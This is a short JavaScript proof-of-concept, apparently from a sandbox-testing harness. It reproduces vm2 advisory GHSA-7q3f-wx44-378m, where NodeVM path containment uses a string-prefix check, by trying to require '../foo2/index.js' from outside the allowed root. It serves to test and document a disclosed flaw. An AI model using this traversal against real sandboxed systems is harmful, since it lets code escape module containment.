// Source: vm2 advisory GHSA-7q3f-wx44-378m (test/ghsa/GHSA-7q3f-wx44-378m/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): path containment was a string prefix test, not a directory test (`/x/foo2` within `/x/foo`).
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require a sibling directory that shares the root's prefix.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    __wr.use(req('../foo2/index.js'), 'sibling path');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
